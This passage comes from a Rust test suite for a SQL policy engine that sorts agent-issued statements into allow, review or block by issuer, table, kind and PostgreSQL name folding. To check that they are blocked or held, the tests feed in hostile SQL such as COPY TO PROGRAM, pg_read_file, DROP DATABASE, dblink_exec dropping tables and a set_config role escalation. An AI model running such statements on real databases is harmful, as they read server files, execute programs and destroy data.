fn eval_with_issuers(
    rules: Vec<PolicyRule>,
    issuers: &[&str],
    chain: &RequesterChain,
    sql: &str,
) -> Action {
    let issuers: Vec<String> = issuers.iter().map(|i| i.to_string()).collect();
    let policy = Policy::new(rules, PolicyDefaults::default(), &issuers).unwrap();
    let ctx = PolicyContext {
        connection: "c",
        requester: chain,
        db_functions: None,
    };
    policy.evaluate(&ctx, sql).action
}

#[test]
fn an_allow_rule_names_subjects_of_one_issuer_and_ignores_actors_from_unconfigured_issuers() {
    let sql = "DELETE FROM t WHERE id = 1";
    let allow = |requesters: &[&str]| {
        vec![PolicyRule {
            requesters: Some(requesters.iter().map(|r| r.to_string()).collect()),
            ..rule("deployer-may-delete", "allow")
        }]
    };
    let both = ["static", "https://idp"];
    // Unqualified, a subject could be the static identity or the IdP's subject of the same name.
    let err = Policy::new(
        allow(&["deploy-agent"]),
        PolicyDefaults::default(),
        &both.map(String::from),
    )
    .unwrap_err()
    .to_string();
    assert!(
        err.contains("requesters") && err.contains("static|deploy-agent"),
        "{err}"
    );
    // A qualified pattern names a configured issuer, exactly.
    for bad in [
        "STATIC|deploy-agent",
        "https://idp/|svc",
        "static |x",
        "static|a|b",
    ] {
        let err = Policy::new(
            allow(&[bad]),
            PolicyDefaults::default(),
            &both.map(String::from),
        )
        .unwrap_err()
        .to_string();
        assert!(err.contains("requesters"), "{bad}: {err}");
    }
    // Qualified: the static identity only.
    let rules = allow(&["static|deploy-agent"]);
    let static_agent = RequesterChain::single(who("static", "deploy-agent"));
    assert_eq!(
        eval_with_issuers(rules.clone(), &both, &static_agent, sql),
        Allow
    );
    let idp_namesake = RequesterChain::single(who("https://idp", "deploy-agent"));
    assert_eq!(eval_with_issuers(rules, &both, &idp_namesake, sql), Review);
    // One issuer: unqualified names its subjects, but not an actor a token claims is from elsewhere.
    let rules = allow(&["deploy-agent"]);
    let one = ["https://idp"];
    let direct = RequesterChain::single(who("https://idp", "deploy-agent"));
    assert_eq!(eval_with_issuers(rules.clone(), &one, &direct, sql), Allow);
    let claimed = RequesterChain(vec![
        who("https://some-other-issuer", "deploy-agent"),
        who("https://idp", "svc-random"),
    ]);
    assert_eq!(eval_with_issuers(rules, &one, &claimed, sql), Review);
    // Groups of such an actor do not count for an allow rule either.
    let by_group = vec![PolicyRule {
        requester_groups: Some(vec!["deployers".into()]),
        ..rule("deployers-may-delete", "allow")
    }];
    let foreign_only = RequesterChain(vec![
        who("https://some-other-issuer", "x"),
        Identity {
            groups: vec![],
            ..who("https://idp", "svc-random")
        },
    ]);
    assert_eq!(
        eval_with_issuers(by_group.clone(), &one, &foreign_only, sql),
        Review
    );
    assert_eq!(eval_with_issuers(by_group, &one, &direct, sql), Allow);
    // A stricter rule catches the subject from any issuer.
    let block = vec![PolicyRule {
        requesters: Some(vec!["deploy-agent".into()]),
        ..rule("no-deployer", "block")
    }];
    assert_eq!(eval_with_issuers(block, &both, &claimed, sql), Block);
    // An e-mail pattern matches addresses, not subjects spelled like one.
    let by_mail = allow(&["*@ci.example.com"]);
    let subject_like_mail = RequesterChain::single(who("https://idp", "bot@ci.example.com"));
    assert_eq!(
        eval_with_issuers(by_mail, &both, &subject_like_mail, sql),
        Review
    );
}

#[test]
fn rule_may_relax_review_to_allow_for_parsed_statements() {
    let rules = vec![PolicyRule {
        kinds: Some(vec!["INSERT".into()]),
        ..rule("inserts-ok", "allow")
    }];
    let v = eval(rules, "c", &agent(), "INSERT INTO t VALUES (1)");
    assert_eq!((v.action, v.rule.as_str()), (Allow, "inserts-ok"));
    assert!(v.review.is_none());
}

#[test]
fn rule_cannot_allow_an_unparsed_statement() {
    let rules = vec![rule("allow-everything", "allow")];
    let v = eval(
        rules,
        "c",
        &agent(),
        "CREATE SUBSCRIPTION s CONNECTION 'host=h' PUBLICATION p",
    );
    assert_eq!((v.action, v.rule.as_str()), (Review, "default"));
    assert!(
        v.reasons
            .iter()
            .any(|r| r.contains("allow-everything") && r.contains("never allowed")),
        "{:?}",
        v.reasons
    );
}

#[test]
fn an_allow_everything_rule_allows_a_do_block_but_a_table_rule_does_not() {
    let sql = "DO LANGUAGE plpgsql $$ BEGIN PERFORM 1; END $$";
    let v = eval(vec![rule("allow-everything", "allow")], "c", &agent(), sql);
    assert_eq!((v.action, v.rule.as_str()), (Allow, "allow-everything"));
    let tables = vec![PolicyRule {
        tables: Some(vec!["free_*".into()]),
        ..rule("free-tables", "allow")
    }];
    let v = eval(tables, "c", &agent(), sql);
    assert_eq!((v.action, v.rule.as_str()), (Review, "default"));
}

#[test]
fn an_allow_everything_rule_allows_two_phase_commit_and_create_user() {
    for sql in [
        "PREPARE TRANSACTION 'tx-1'",
        "COMMIT PREPARED 'tx-1'",
        "ROLLBACK PREPARED 'tx-1'",
        "CREATE USER app_ro WITH PASSWORD 'x'",
    ] {
        let v = eval(vec![rule("allow-everything", "allow")], "c", &agent(), sql);
        assert_eq!(
            (v.action, v.rule.as_str()),
            (Allow, "allow-everything"),
            "{sql}"
        );
    }
}

#[test]
fn an_allow_everything_rule_allows_maintenance_and_pg_dump_statements() {
    for sql in [
        "REINDEX TABLE t",
        "CLUSTER t USING t_idx",
        "ALTER SEQUENCE public.t_id_seq OWNED BY public.t.id",
        "ALTER TYPE public.mood OWNER TO postgres",
        "ALTER MATERIALIZED VIEW s.v OWNER TO app",
        "ALTER TEXT SEARCH CONFIGURATION s.c OWNER TO app",
        "ALTER AGGREGATE public.a(integer, text[]) OWNER TO app",
        "ALTER INDEX public.parent_idx ATTACH PARTITION public.child_idx",
        "CREATE INDEX parent_idx ON ONLY public.parent USING btree (a)",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql COST 10 AS $$ SELECT 1 $$",
        "CREATE DOMAIN pos AS integer NOT NULL CHECK (VALUE > 0)",
        "CREATE PROCEDURE p() LANGUAGE sql AS $$ SELECT 1 $$",
        "ALTER TABLE ONLY app.big ALTER COLUMN note SET STATISTICS 500",
        "ALTER TABLE app.events ALTER COLUMN id ADD GENERATED ALWAYS AS IDENTITY (SEQUENCE NAME app.events_id_seq START WITH 1 CACHE 1)",
        "CREATE STATISTICS app.st1 ON name, mood FROM app.people",
        "CREATE MATERIALIZED VIEW app.counts AS SELECT 1 WITH NO DATA",
        "UPDATE t SET tags[2] = 'x' WHERE id = 1",
        "COPY s.cp (id) FROM STDIN WHERE id > 0",
    ] {
        let v = eval(vec![rule("allow-everything", "allow")], "c", &agent(), sql);
        assert_eq!(
            (v.action, v.rule.as_str(), v.statements[0].unparsed),
            (Allow, "allow-everything", false),
            "{sql}"
        );
    }
}

#[test]
fn a_table_allow_rule_vouches_only_for_statements_on_its_tables() {
    let rules = vec![PolicyRule {
        kinds: Some(vec!["INSERT".into(), "UPDATE".into(), "DELETE".into()]),
        tables: Some(vec!["reports".into(), "report_*".into()]),
        ..rule("reports", "allow")
    }];
    let chain = agent();
    for sql in [
        "INSERT INTO reports VALUES (1)",
        "INSERT INTO reports (id) VALUES (nextval('reports_id_seq'))",
        "INSERT INTO reports SELECT * FROM report_drafts",
        "UPDATE reports SET done = true WHERE id = (SELECT id FROM reports WHERE NOT done ORDER BY id FOR UPDATE SKIP LOCKED LIMIT 1)",
        "DELETE FROM report_drafts WHERE id = 1",
    ] {
        let v = eval(rules.clone(), "c", &chain, sql);
        assert_eq!((v.action, v.rule.as_str()), (Allow, "reports"), "{sql}");
    }
    // Each writes, reads or runs something the rule does not name.
    for sql in [
        "INSERT INTO secrets SELECT * FROM reports",
        "INSERT INTO reports SELECT * FROM secrets",
        "WITH d AS (DELETE FROM secrets RETURNING id) INSERT INTO reports SELECT id FROM d",
        "UPDATE reports SET note = dblink_exec('dbname=x', 'DROP TABLE t') WHERE id = 1",
        "DELETE FROM reports WHERE my_func(id)",
        "INSERT INTO reports VALUES (setval('other_seq', 1))",
    ] {
        let v = eval(rules.clone(), "c", &chain, sql);
        assert_ne!(v.action, Allow, "{sql}: {:?}", v.reasons);
    }
}

#[test]
fn rule_cannot_relax_a_builtin_block() {
    let rules = vec![rule("allow-everything", "allow")];
    let chain = agent();
    for sql in [
        "COPY t TO PROGRAM 'x'",
        "ALTER SYSTEM SET a = 1",
        "SELECT pg_read_file('x')",
    ] {
        let v = eval(rules.clone(), "c", &chain, sql);
        assert_eq!(v.action, Block, "{sql}");
        assert!(
            v.reasons.iter().any(|r| r.contains("cannot be relaxed")),
            "{sql}: {:?}",
            v.reasons
        );
    }
    let v = eval(
        vec![rule("review-everything", "review")],
        "c",
        &chain,
        "DROP DATABASE x",
    );
    assert_eq!(v.action, Block);
}

#[test]
fn a_read_allow_rule_vouches_only_for_what_its_kind_does() {
    // The reference config's `reporting-reads`: kinds = ["SELECT"], action = "allow".
    let reads = vec![PolicyRule {
        kinds: Some(vec!["SELECT".into()]),
        ..rule("reporting-reads", "allow")
    }];
    let on_reports = vec![PolicyRule {
        tables: Some(vec!["reports".into()]),
        ..rule("reports", "allow")
    }];
    let chain = agent();
    for sql in [
        "SELECT * FROM t WHERE id = 1",
        "SELECT lower(name), count(*) FROM t GROUP BY 1",
    ] {
        assert_eq!(eval(reads.clone(), "c", &chain, sql).action, Allow, "{sql}");
    }
    // Each of these is a SELECT that writes, locks, runs code or changes the session.
    for sql in [
        "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
        "WITH x AS (SELECT 1) DELETE FROM t",
        "SELECT nextval('s')",
        "SELECT set_config('role', 'postgres', false)",
        "SELECT my_func(1)",
        "SELECT dblink_exec('host=x', 'DROP TABLE t')",
        "SELECT * FROM t FOR UPDATE",
        "SELECT * INTO t2 FROM t",
        "EXPLAIN ANALYZE SELECT nextval('s')",
    ] {
        let v = eval(reads.clone(), "c", &chain, sql);
        assert_eq!((v.action, v.rule.as_str()), (Review, "default"), "{sql}");
    }
    let v = eval(reads, "c", &chain, "SELECT nextval('s')");
    assert!(
        v.reasons
            .iter()
            .any(|r| r.contains("reporting-reads") && r.contains("vouches")),
        "{:?}",
        v.reasons
    );
    let v = eval(
        on_reports.clone(),
        "c",
        &chain,
        "SELECT nextval('s') FROM reports",
    );
    assert_eq!(v.action, Review);
    // A write kind the rule names is what it allows, as before.
    assert_eq!(
        eval(on_reports, "c", &chain, "INSERT INTO reports VALUES (1)").action,
        Allow
    );
    // A rule without kinds or tables allows everything on its connections, as for DO blocks.
    let everything = vec![rule("allow-everything", "allow")];
    assert_eq!(
        eval(everything, "c", &chain, "SELECT nextval('s')").action,
        Allow
    );
}

#[test]
fn a_read_allow_rule_does_not_allow_a_row_function_called_by_attribute_notation() {
    let policy = Policy::new(
        vec![PolicyRule {
            kinds: Some(vec!["SELECT".into()]),
            ..rule("reads", "allow")
        }],
        PolicyDefaults::default(),
        &["https://idp".to_string()],
    )
    .unwrap();
    let chain = agent();
    let functions = row_functions(&["archive"]);
    let ctx = PolicyContext {
        connection: "c",
        requester: &chain,
        db_functions: Some(&functions),
    };
    assert_eq!(
        policy.evaluate(&ctx, "SELECT p.id FROM people p").action,
        Allow
    );
    assert_eq!(
        policy
            .evaluate(&ctx, "SELECT p.archive FROM people p")
            .action,
        Review
    );
}

#[test]
fn a_write_behind_a_with_clause_is_matched_as_that_write() {
    let rules = vec![PolicyRule {
        kinds: Some(vec!["DELETE".into()]),
        missing_where: Some(true),
        ..rule("no-unbounded-deletes", "block")
    }];
    let chain = agent();
    for sql in [
        "DELETE FROM orders",
        "WITH x AS (SELECT 1) DELETE FROM orders",
        "EXPLAIN ANALYZE WITH x AS (SELECT 1) DELETE FROM orders",
    ] {
        let v = eval(rules.clone(), "c", &chain, sql);
        assert_eq!(
            (v.action, v.rule.as_str()),
            (Block, "no-unbounded-deletes"),
            "{sql}"
        );
    }
    let v = eval(
        rules,
        "c",
        &chain,
        "WITH x AS (SELECT 1) DELETE FROM orders WHERE id = 1",
    );
    assert_eq!(
        (v.action, v.statements[0].kind.as_str()),
        (Review, "DELETE")
    );
}

#[test]
fn rule_may_make_an_allowed_statement_stricter() {
    let rules = vec![PolicyRule {
        tables: Some(vec!["secrets".into()]),
        ..rule("secrets", "review")
    }];
    let v = eval(rules, "c", &agent(), "SELECT * FROM secrets");
    assert_eq!((v.action, v.rule.as_str()), (Review, "secrets"));
    assert_eq!(v.review.unwrap().approver_groups, vec!["dba"]);
}

#[test]
fn review_requirements_merge_across_statements() {
    let rules = vec![
        PolicyRule {
            kinds: Some(vec!["DELETE".into()]),
            approver_groups: Some(vec!["dba".into()]),
            quorum: Some(3),
            ttl: Some("2h".into()),
            ..rule("deletes", "review")
        },
        PolicyRule {
            kinds: Some(vec!["UPDATE".into()]),
            approver_groups: Some(vec!["leads".into(), "dba".into()]),
            quorum: Some(1),
            ttl: Some("10m".into()),
            ..rule("updates", "review")
        },
    ];
    let v = eval(
        rules,
        "c",
        &agent(),
        "DELETE FROM t WHERE id = 1; UPDATE t SET a = 1 WHERE id = 2; SELECT 1",
    );
    assert_eq!(v.action, Review);
    assert_eq!(v.rule, "deletes");
    assert_eq!(
        v.review,
        Some(ReviewRequirement {
            approver_groups: vec!["dba".into(), "leads".into()],
            quorum: 3,
            ttl_secs: 600,
            reminders: Default::default(),
        })
    );
}

#[test]
fn invalid_rules_are_reported_by_policy_new() {
    let err = Policy::new(vec![rule("x", "deny")], PolicyDefaults::default(), &[]).unwrap_err();
    assert_eq!(err.key(), "action");
    assert!(err.to_string().contains("policy.rules[0]"));
}

#[test]
fn deeply_nested_input_fails_closed_without_crashing() {
    let deep = format!("SELECT {}1{}", "(".repeat(5_000), ")".repeat(5_000));
    let v = verdict_of(&deep);
    assert_eq!(v.action, Review);
    assert!(v.statements[0].unparsed);
    let deep_queries = format!(
        "SELECT * FROM {}t{}",
        "(SELECT * FROM ".repeat(2_000),
        ") s".repeat(2_000)
    );
    assert_ne!(verdict_of(&deep_queries).action, Allow);
}

/// Classifies on a thread with the 2 MiB stack wire and API threads get, as they would.
fn verdict_on_small_stack(sql: String) -> Verdict {
    std::thread::Builder::new()
        .stack_size(2 * 1024 * 1024)
        .spawn(move || verdict_of(&sql))
        .unwrap()
        .join()
        .expect("classification must not overflow a 2 MiB stack")
}

#[test]
fn long_operator_chains_fail_closed_without_overflowing_the_stack() {
    // sqlparser nests `1+1+…` and `x[1][2]…` one level per link with no recursion limit; walking
    // or dropping 200,000 levels aborted the whole gateway with a stack overflow.
    for sql in [
        format!("SELECT 1{}", "+1".repeat(200_000)),
        format!("SELECT x{} FROM t", "[1]".repeat(200_000)),
        format!("SELECT 1{}; DELETE FROM t", "::int".repeat(100_000)),
    ] {
        let v = verdict_on_small_stack(sql);
        assert_eq!(v.action, Review);
        assert!(v.statements[0].unparsed);
        assert!(
            v.reasons.iter().any(|r| r.contains("split it")),
            "{:?}",
            v.reasons
        );
    }
    // The same with a pg_read_file call still blocks (the token-level checks run).
    let v = verdict_on_small_stack(format!(
        "SELECT pg_read_file('x'){}",
        "||'a'".repeat(50_000)
    ));
    assert_eq!(v.action, Block);
    // pgJDBC's getUDTs: a CASE with a branch per type is long but flat, and parses.
    let branches: String = (0..2_000)
        .map(|i| format!(" WHEN t.oid = {i} THEN {i}"))
        .collect();
    let v = verdict_on_small_stack(format!(
        "SELECT CASE{branches} ELSE 0 END AS data_type FROM pg_catalog.pg_type t"
    ));
    assert_eq!((v.action, v.statements[0].unparsed), (Allow, false));
    // Keywords as column names after `.` neither open a CASE nor end its items: the chain still counts.
    let parts: Vec<String> = std::iter::once("x.case".to_string())
        .chain((0..200_000).map(|i| {
            if i % 1000 == 0 {
                "x.then".into()
            } else {
                "1".into()
            }
        }))
        .collect();
    let v = verdict_on_small_stack(format!(
        "SELECT {} FROM (SELECT 1 AS case, 1 AS then) x",
        parts.join("||")
    ));
    assert_eq!(v.action, Review);
    assert!(v.statements[0].unparsed);
    // CASEs nested in one another are bounded by the parser's recursion limit: held, no overflow.
    let v = verdict_on_small_stack(format!(
        "SELECT {}1{}",
        "CASE WHEN x THEN ".repeat(20_000),
        " END".repeat(20_000)
    ));
    assert_eq!(v.action, Review);
    // A chain inside one branch still counts.
    let v = verdict_on_small_stack(format!(
        "SELECT CASE WHEN x THEN 1{} END",
        "+1".repeat(200_000)
    ));
    assert_eq!(v.action, Review);
    // Just within the limit, the densest chain (one token per level) still parses and is allowed.
    let within = format!(
        "SELECT x{}",
        "[1]".repeat(super::fallback::MAX_CHAIN_TOKENS - 2)
    );
    let v = verdict_on_small_stack(within);
    assert_eq!((v.action, v.statements[0].unparsed), (Allow, false));
}

#[test]
fn reminder_settings_merge_to_the_earliest_delays_and_all_escalation_targets() {
    let rules = vec![
        PolicyRule {
            kinds: Some(vec!["DELETE".into()]),
            remind_after: Some("30m".into()),
            escalate_after: Some("2h".into()),
            escalate_to: Some(vec!["dba-leads".into()]),
            ..rule("deletes", "review")
        },
        PolicyRule {
            kinds: Some(vec!["UPDATE".into()]),
            remind_after: Some("5m".into()),
            escalate_after: Some("3h".into()),
            escalate_to: Some(vec!["cto".into(), "dba-leads".into()]),
            ..rule("updates", "review")
        },
        PolicyRule {
            kinds: Some(vec!["INSERT".into()]),
            ..rule("inserts", "review")
        },
    ];
    let v = eval(
        rules,
        "c",
        &agent(),
        "DELETE FROM t WHERE id = 1; UPDATE t SET a = 1 WHERE id = 2; INSERT INTO t VALUES (1)",
    );
    assert_eq!(
        v.review.map(|r| r.reminders),
        Some(countersign_bot::ReminderSettings {
            remind_after_secs: Some(300),
            escalate_after_secs: Some(7200),
            escalate_to: vec!["dba-leads".into(), "cto".into()],
        })
    );
}

#[test]
fn a_qualified_name_that_is_a_database_row_function_is_judged_as_its_call() {
    let policy = Policy::builtin();
    let chain = agent();
    // `archive` was created unquoted (stored folded), `Purge` quoted (stored as written).
    let functions = row_functions(&["archive", "Purge"]);
    let with = PolicyContext {
        connection: "c",
        requester: &chain,
        db_functions: Some(&functions),
    };
    let without = PolicyContext {
        db_functions: None,
        ..with
    };
    for (sql, want) in [
        ("SELECT p.archive FROM people p", Review),
        (
            "SELECT p.id FROM people p WHERE p.archive IS NOT NULL",
            Review,
        ),
        ("SELECT public.people.archive FROM public.people", Review),
        ("SELECT p.\"Archive\" FROM people p", Allow),
        // Field selection on a parenthesised expression is attribute notation too.
        ("SELECT (p).archive FROM people p", Review),
        ("SELECT (people).archive FROM people", Review),
        ("SELECT (p.*).archive FROM people p", Review),
        ("SELECT (SELECT p FROM people p LIMIT 1).archive", Review),
        ("SELECT (p).\"Purge\" FROM people p", Review),
        ("SELECT (p).id, (p).name FROM people p", Allow),
        ("SELECT p.\"Purge\" FROM people p", Review),
        ("SELECT p.purge FROM people p", Allow),
        ("SELECT p.name, p.id FROM people p", Allow),
        ("SELECT archive FROM people", Allow),
    ] {
        let v = policy.evaluate(&with, sql);
        assert_eq!(v.action, want, "{sql}: {:?}", v.reasons);
        if want == Review {
            assert!(
                v.reasons[0].contains("attribute notation"),
                "{sql}: {:?}",
                v.reasons
            );
        }
        // Without the database's functions known, a qualified name reads as a column.
        assert_eq!(policy.evaluate(&without, sql).action, Allow, "{sql}");
    }
}

#[test]
fn unquoted_names_fold_as_postgresql_folds_them() {
    let policy = Policy::builtin();
    let chain = agent();
    let functions = row_functions(&["Über", "über_lower"]);
    let ctx = |db| PolicyContext {
        connection: "c",
        requester: &chain,
        db_functions: db,
    };
    // PostgreSQL (UTF-8) lower-cases ASCII letters only: the Kelvin sign is no `k`, so this is not
    // the vetted pg_backend_pid but whatever function of that exact name the database has.
    let kelvin = "SELECT pg_bac\u{212A}end_pid()";
    for (sql, db, want) in [
        ("SELECT pg_backend_pid()", None, Allow),
        (kelvin, None, Review),
        (kelvin, Some(&functions), Review),
        // `Über` unquoted is `Über` to PostgreSQL (UTF-8), the row function's own name.
        ("SELECT p.Über FROM t p", Some(&functions), Review),
        // And in a single-byte database it would be `über`: reviewed even with no lists known.
        ("SELECT p.Über FROM t p", None, Review),
        ("SELECT '1'::Ärger", None, Review),
        ("SELECT CAST('1' AS Ärger)", None, Review),
        // Quoted, a name is one object everywhere; lower-case non-ASCII letters fold nowhere.
        ("SELECT p.\"Über\" FROM t p", Some(&functions), Review),
        ("SELECT p.\"Über\" FROM t p", None, Allow),
        ("SELECT p.über_lower FROM t p", Some(&functions), Review),
        ("SELECT p.über FROM t p", Some(&functions), Allow),
        ("SELECT '1'::\"Ärger\"", None, Allow),
    ] {
        let v = policy.evaluate(&ctx(db), sql);
        assert_eq!(
            v.action,
            want,
            "{sql} with lists {}: {:?}",
            db.is_some(),
            v.reasons
        );
    }
    // A rule's tables meet the name PostgreSQL writes to, and only a rule without kinds or tables
    // allows a name whose folding differs by database.
    let scoped = || {
        vec![PolicyRule {
            kinds: Some(vec!["INSERT".into()]),
            tables: Some(vec!["über_t".into(), "Über_t".into()]),
            ..rule("inserts", "allow")
        }]
    };
    let insert = |sql| eval(scoped(), "c", &chain, sql).action;
    assert_eq!(insert("INSERT INTO Über_t VALUES (1)"), Review);
    assert_eq!(insert("INSERT INTO \"Über_t\" VALUES (1)"), Allow);
}

#[test]
fn a_type_change_that_rewrites_typed_tables_needs_a_rule_without_kinds() {
    let scoped = || {
        vec![PolicyRule {
            kinds: Some(vec!["ALTER TYPE".into()]),
            ..rule("types", "allow")
        }]
    };
    let chain = agent();
    assert_eq!(
        eval(
            scoped(),
            "c",
            &chain,
            "ALTER TYPE comp ADD ATTRIBUTE c text"
        )
        .action,
        Allow
    );
    for sql in [
        "ALTER TYPE comp ALTER ATTRIBUTE a TYPE varchar CASCADE",
        "ALTER TYPE comp ALTER ATTRIBUTE a SET DATA TYPE varchar",
        "ALTER TYPE comp DROP ATTRIBUTE a CASCADE",
    ] {
        let v = eval(scoped(), "c", &chain, sql);
        assert_eq!(v.action, Review, "{sql}: {:?}", v.reasons);
        assert!(
            v.reasons.iter().any(|r| r.contains("rewrites")),
            "{sql}: {:?}",
            v.reasons
        );
    }
}

/// A database whose only listed functions are row functions named `names`.
fn row_functions(names: &[&str]) -> super::DatabaseFunctions {
    super::DatabaseFunctions {
        row: names.iter().map(|n| n.to_string()).collect(),
        ..Default::default()
    }
}

/// A database where each vetted name of `shadows` is also defined as the listed functions.
fn shadowed(shadows: &[(&str, &[&str])]) -> super::DatabaseFunctions {
    super::DatabaseFunctions {
        shadows: shadows
            .iter()
            .map(|(name, by)| (name.to_string(), by.iter().map(|f| f.to_string()).collect()))
            .collect(),
        ..Default::default()
    }
}

#[test]
fn a_write_rule_does_not_allow_user_code_the_catalog_shows() {
    let policy = Policy::new(
        vec![PolicyRule {
            kinds: Some(vec!["UPDATE".into(), "INSERT".into()]),
            tables: Some(vec!["reports".into()]),
            ..rule("reports", "allow")
        }],
        PolicyDefaults::default(),
        &["https://idp".to_string()],
    )
    .unwrap();
    let chain = agent();
    let check = |functions: &super::DatabaseFunctions, sql: &str| {
        let ctx = PolicyContext {
            connection: "c",
            requester: &chain,
            db_functions: Some(functions),
        };
        policy.evaluate(&ctx, sql).action
    };
    let plain = super::DatabaseFunctions::default();
    assert_eq!(
        check(&plain, "UPDATE reports SET note = 'n' WHERE id = 1"),
        Allow
    );
    let shadows = shadowed(&[("length", &["public.length"])]);
    assert_eq!(
        check(
            &shadows,
            "UPDATE reports SET note = 'n' || length(42) WHERE id = 1"
        ),
        Review
    );
    let rows = row_functions(&["archive"]);
    assert_eq!(
        check(
            &rows,
            "UPDATE reports SET note = reports.archive WHERE id = 1"
        ),
        Review
    );
}

#[test]
fn a_table_rule_allows_neither_quoted_other_tables_nor_other_schemas_nextval_or_prepared_settings()
{
    let rules = vec![PolicyRule {
        kinds: Some(vec!["INSERT".into(), "DELETE".into()]),
        tables: Some(vec!["reports".into()]),
        ..rule("reports", "allow")
    }];
    let chain = agent();
    assert_eq!(
        eval(
            rules.clone(),
            "c",
            &chain,
            "DELETE FROM REPORTS WHERE id = 1"
        )
        .action,
        Allow
    );
    for sql in [
        "DELETE FROM \"Reports\" WHERE id > 0",
        "INSERT INTO \"REPORTS\" VALUES (3)",
        "INSERT INTO reports (id) VALUES (evil.nextval('reports_id_seq'))",
        "PREPARE p(text) AS INSERT INTO reports (v) VALUES (set_config('application_name', $1, false))",
    ] {
        let v = eval(rules.clone(), "c", &chain, sql);
        assert_ne!(v.action, Allow, "{sql}: {:?}", v.reasons);
    }
    // A database's own set_config or nextval captures the unqualified call.
    let policy = Policy::new(
        rules,
        PolicyDefaults::default(),
        &["https://idp".to_string()],
    )
    .unwrap();
    for (shadow, sql) in [
        ("set_config", "SELECT set_config('application_name', 'x')"),
        (
            "nextval",
            "INSERT INTO reports (id) VALUES (nextval('reports_id_seq'))",
        ),
    ] {
        let by = format!("public.{shadow}");
        let functions = shadowed(&[(shadow, &[by.as_str()])]);
        let ctx = PolicyContext {
            connection: "c",
            requester: &chain,
            db_functions: Some(&functions),
        };
        assert_eq!(policy.evaluate(&ctx, sql).action, Review, "{sql}");
    }
}

#[test]
fn a_write_rule_allows_only_its_own_tables_sequences() {
    let rules = vec![PolicyRule {
        kinds: Some(vec!["INSERT".into(), "DELETE".into()]),
        tables: Some(vec!["reports".into(), "app.reports".into()]),
        ..rule("reports", "allow")
    }];
    let chain = agent();
    for (sql, action) in [
        ("INSERT INTO reports (id) VALUES (nextval('reports_id_seq'))", Allow),
        ("INSERT INTO app.reports (id) VALUES (nextval('app.reports_id_seq'))", Allow),
        ("INSERT INTO reports (id) VALUES (nextval('seq1'))", Review),
        ("INSERT INTO reports (id) VALUES (nextval('reports_seq'))", Review),
        ("INSERT INTO app.reports (id) VALUES (nextval('reports_id_seq'))", Review),
        ("DELETE FROM reports WHERE id < (SELECT max(x) FROM generate_series(1, 10) g(x) WHERE nextval('seq1') > 0)", Review),
    ] {
        assert_eq!(eval(rules.clone(), "c", &chain, sql).action, action, "{sql}");
    }
}

#[test]
fn reading_a_view_that_calls_unvetted_functions_is_held_for_review() {
    let policy = Policy::builtin();
    let chain = agent();
    let functions = super::DatabaseFunctions {
        views: [("v_side".to_string(), vec!["public.side".to_string()])].into(),
        ..Default::default()
    };
    let ctx = PolicyContext {
        connection: "prod",
        requester: &chain,
        db_functions: Some(&functions),
    };
    for sql in [
        "SELECT * FROM v_side",
        "SELECT n FROM app.v_side",
        "SELECT count(*) FROM orders o JOIN \"v_side\" s ON true",
    ] {
        let v = policy.evaluate(&ctx, sql);
        assert_eq!(v.action, Review, "{sql}");
        assert!(
            v.reasons[0].contains("reads view") && v.reasons[0].contains("public.side"),
            "{sql}: {:?}",
            v.reasons
        );
    }
    assert_eq!(policy.evaluate(&ctx, "SELECT * FROM v_other").action, Allow);
}

#[test]
fn rewritten_spellings_keep_every_table_the_statement_reads() {
    for (sql, table) in [
        (
            "CREATE TABLE t2 AS SELECT * FROM (SELECT 1 including FROM evil_view) s",
            "evil_view",
        ),
        (
            "UPDATE reports SET note = s FROM (SELECT true AS b) search, secret set WHERE b BETWEEN SYMMETRIC true AND true",
            "secret",
        ),
        ("SELECT (1 BETWEEN SYMMETRIC 0 AND 2) search FROM v set WHERE ok", "v"),
    ] {
        let v = verdict_of(sql);
        assert!(
            v.statements.iter().any(|s| s.unparsed || s.tables.iter().any(|t| t == table)),
            "{sql}: {:?}",
            v.statements
        );
    }
}

#[test]
fn a_name_whose_case_folding_shrinks_meets_the_view_postgresql_cuts_it_to() {
    // The Kelvin sign (3 bytes) folds to `k` (1 byte): PostgreSQL cuts the name as written to 63 bytes
    // (21 signs), so 25 signs name the 21-sign view.
    let view = "\u{212A}".repeat(21);
    let policy = Policy::builtin();
    let chain = agent();
    let functions = super::DatabaseFunctions {
        views: [(
            super::verdict::relation_key(&view),
            vec!["public.side".to_string()],
        )]
        .into(),
        ..Default::default()
    };
    let ctx = PolicyContext {
        connection: "prod",
        requester: &chain,
        db_functions: Some(&functions),
    };
    for name in [view.clone(), "\u{212A}".repeat(25)] {
        let sql = format!("SELECT * FROM {name}");
        assert_eq!(policy.evaluate(&ctx, &sql).action, Review, "{sql}");
    }
}

#[test]
fn statements_that_change_name_resolution_are_marked() {
    for (sql, sets) in [
        ("SET search_path = app, public", true),
        ("set local SEARCH_PATH to app", true),
        ("SET SCHEMA 'app'", true),
        ("SELECT set_config('search_path', 'app', false)", true),
        ("RESET ALL", true),
        ("DISCARD ALL", true),
        ("SET ROLE reporting", true),
        ("SET SESSION AUTHORIZATION bob", true),
        ("SET DateStyle = 'ISO, DMY'", true),
        ("SET TIME ZONE 'Europe/Paris'", true),
        ("set timezone to 'UTC'", true),
        ("SET lc_numeric = 'de_DE'", true),
        ("SET transform_null_equals = on", true),
        ("SET NAMES 'UTF8'", true),
        // Quoted, in any case: PostgreSQL matches setting names case-insensitively.
        ("SET \"Search_Path\" = s2, public", true),
        ("SET \"DateStyle\" = 'ISO, DMY'", true),
        ("SET \"Role\" = reporting", true),
        ("SHOW search_path", false),
        ("SELECT * FROM schema_docs", false),
        ("SELECT now() AT TIME ZONE 'UTC'", false),
        ("SET statement_timeout = 5", false),
        ("SELECT 1", false),
    ] {
        let facts = super::classify::classify(sql);
        assert_eq!(facts[0].sets_name_resolution, sets, "{sql}");
    }
}

#[test]
fn reads_that_types_or_operators_make_run_user_code_are_held_for_review() {
    let policy = Policy::builtin();
    let chain = agent();
    let reason = |why: &str| vec![why.to_string()];
    let functions = super::DatabaseFunctions {
        types: [("mood".to_string(), reason("its cast runs public.f"))].into(),
        tables: [("feelings".to_string(), reason("column m has type mood"))].into(),
        operators: [("=".to_string(), reason("=(integer,text) runs public.g"))].into(),
        ..Default::default()
    };
    let ctx = PolicyContext {
        connection: "prod",
        requester: &chain,
        db_functions: Some(&functions),
    };
    // (sql, verdict, text a reason holds)
    for (sql, want, why) in [
        ("SELECT 'calm'::MOOD", Review, "names type mood"),
        ("SELECT CAST(x AS mood) FROM t", Review, "names type mood"),
        (
